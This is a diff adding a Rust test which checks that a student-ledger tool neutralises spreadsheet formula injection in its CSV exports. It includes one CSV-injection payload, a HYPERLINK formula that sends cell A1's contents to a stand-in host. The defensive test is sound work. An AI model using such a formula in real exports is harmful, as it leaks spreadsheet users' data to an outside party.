@@ -392,3 +392,63 @@ fn tokens_end_when_the_password_is_reset_or_changed() {
         server.stop().await;
     });
 }
+
+/// A note that begins like a formula is written into every CSV file as text a
+/// spreadsheet shows and never runs; numbers stay numbers.
+#[test]
+fn a_formula_in_a_note_never_runs_in_a_spreadsheet() {
+    let db = TestDb::sqlite();
+    district(&db);
+    let visits = db.json(&["visit", "list", "--student", "S001", "--format", "json"]);
+    let id = visits[0]["visit_id"].to_string();
+    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
+    db.ok(&[
+        "--as-of",
+        "2026-12-05",
+        "visit",
+        "record",
+        &id,
+        "--outcome",
+        "completed",
+        "--note",
+        formula,
+    ]);
+    let ledger = db.ok(&["--as-of", "2026-12-05", "ledger", "S001", "--format", "csv"]);
+    let folder = db.dir.path().join("export");
+    db.ok(&[
+        "--as-of",
+        "2026-12-05",
+        "export",
+        "--year",
+        "2026-2027",
+        "--format",
+        "csv",
+        "--out",
+        common::path(&folder),
+    ]);
+    let exported: String = std::fs::read_dir(&folder)
+        .unwrap()
+        .map(|file| std::fs::read_to_string(file.unwrap().path()).unwrap())
+        .collect::<Vec<_>>()
+        .join("\n");
+    for (what, csv) in [("ledger", &ledger), ("year export", &exported)] {
+        let cells: Vec<String> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        assert!(
+            cells.iter().any(|c| c == &format!("'{formula}")),
+            "{what}: the note as text: {cells:?}"
+        );
+        assert!(
+            !cells.iter().any(|c| c.starts_with(['=', '+', '@'])),
+            "{what}: no cell a spreadsheet would run: {cells:?}"
+        );
+    }
+    assert_eq!(songjiao::reports::inert_cell("-3"), "-3");
+    assert_eq!(songjiao::reports::inert_cell("-1+1"), "'-1+1");
+    assert_eq!(songjiao::reports::inert_cell("@SUM(A1)"), "'@SUM(A1)");
+}
